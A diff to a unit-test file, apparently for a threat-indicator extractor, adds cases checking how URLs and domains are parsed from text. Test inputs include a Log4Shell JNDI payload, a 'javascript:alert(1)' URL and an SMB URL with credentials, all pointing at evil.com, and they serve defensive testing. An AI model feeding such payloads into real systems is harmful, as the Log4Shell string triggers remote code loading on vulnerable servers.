@@ -127,10 +127,34 @@ describe('extractCandidates', () => {
       '2606:4700:0:0:0:0:0:1111:1',
       ['2606:4700:0:0:0:0:0:1111:1:IPV6'],
     ],
-    ['a URL with an empty port, not the URL without it', 'http://evil.com:/x', ['http://evil.com:/x:URL']],
+    [
+      'a URL with an empty port, not the URL without it',
+      'http://evil.com:/x',
+      ['http://evil.com:/x:URL', 'evil.com:DNS?'],
+    ],
     ['a URL with a named port', 'http://evil.com:http/x', ['http://evil.com:http/x:URL']],
     ['a labelled IPv6 address', 'ip:2606:4700::1111', ['2606:4700::1111:IPV6']],
   ])('does not cut a value at a colon: %s', (_name, text, expected) => {
+    expect(brief(extractCandidates(text))).toEqual(expected);
+  });
+
+  it.each<[string, string, string[]]>([
+    ['an LDAP URL, its host a suggestion', 'ldap://evil.com/a', ['ldap://evil.com/a:URL', 'evil.com:DNS?']],
+    [
+      'an SMB URL with credentials',
+      'smb://u:p@evil.com:445/s',
+      ['smb://u:p@evil.com:445/s:URL', 'evil.com:DNS?'],
+    ],
+    [
+      'a javascript: URL in a list',
+      'javascript:alert(1)\nevil.com',
+      ['javascript:alert(1):URL', 'evil.com:DNS'],
+    ],
+    ['a wildcard domain as written', '*.evil.com', ['*.evil.com:DNS']],
+    ['Markdown bold around a domain', '**evil.com**', ['evil.com:DNS']],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, literally
+    ['a Log4Shell string, its domain', '${jndi:ldap://evil.com/a}', ['evil.com:DNS']],
+  ])('shows what it cannot send: %s', (_name, text, expected) => {
     expect(brief(extractCandidates(text))).toEqual(expected);
   });
 
